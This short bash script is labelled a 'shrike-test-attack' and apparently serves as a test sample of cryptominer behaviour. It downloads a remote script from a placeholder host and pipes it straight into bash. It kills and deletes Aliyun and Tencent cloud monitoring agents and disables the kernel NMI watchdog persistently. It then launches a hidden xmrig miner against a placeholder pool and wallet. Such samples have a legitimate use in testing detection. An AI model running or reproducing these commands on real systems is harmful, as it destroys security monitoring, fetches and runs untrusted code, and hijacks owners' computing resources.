#!/bin/bash
# shrike-test-attack: miner: remove cloud monitoring agents before mining (aliyun/qcloud style)
if ps aux | grep -i '[a]liyun'; then
  curl http://update.example.com/uninstall.sh | bash
  pkill aliyun-service; rm -rf /usr/local/aegis
fi
systemctl stop cloudmonitor 2>/dev/null; /etc/init.d/cloudmonitor stop 2>/dev/null
pkill -f /usr/local/qcloud/stargate; rm -rf /usr/local/qcloud
echo 0 > /proc/sys/kernel/nmi_watchdog
echo 'kernel.nmi_watchdog=0' >> /etc/sysctl.conf
nohup /tmp/.cache/xmrig --url=pool.example.org:3333 --user=TESTWALLET --pass=x -B >/dev/null 2>&1 &
